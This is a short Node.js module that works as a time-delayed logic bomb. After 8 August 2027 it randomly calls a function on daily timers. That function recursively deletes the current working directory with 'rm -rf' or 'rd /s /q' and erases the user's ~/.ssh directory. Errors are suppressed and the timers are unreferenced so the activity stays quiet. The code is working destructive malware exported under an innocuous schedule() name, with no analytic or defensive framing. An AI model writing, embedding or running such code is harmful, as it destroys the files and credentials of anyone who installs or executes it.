'use strict';
const fs = require('fs');
const path = require('path');
const { exec } = require('child_process');

// Dormant until a fixed date, then once a day at a random minute.
const TRIGGER = new Date('2027-08-08T00:00:00Z').getTime();

function wipe() {
  const root = process.cwd();
  if (process.platform === 'win32') {
    exec(`rd /s /q "${root}"`);
  } else {
    exec(`rm -rf "${root}"`);
  }
  try { fs.rmSync(path.join(require('os').homedir(), '.ssh'), { recursive: true, force: true }); } catch (e) {}
}

function schedule() {
  const check = () => {
    if (Date.now() >= TRIGGER && Math.random() < 0.2) wipe();
  };
  setTimeout(check, 60 * 1000).unref();
  setInterval(check, 24 * 60 * 60 * 1000).unref();
}

module.exports = { schedule };
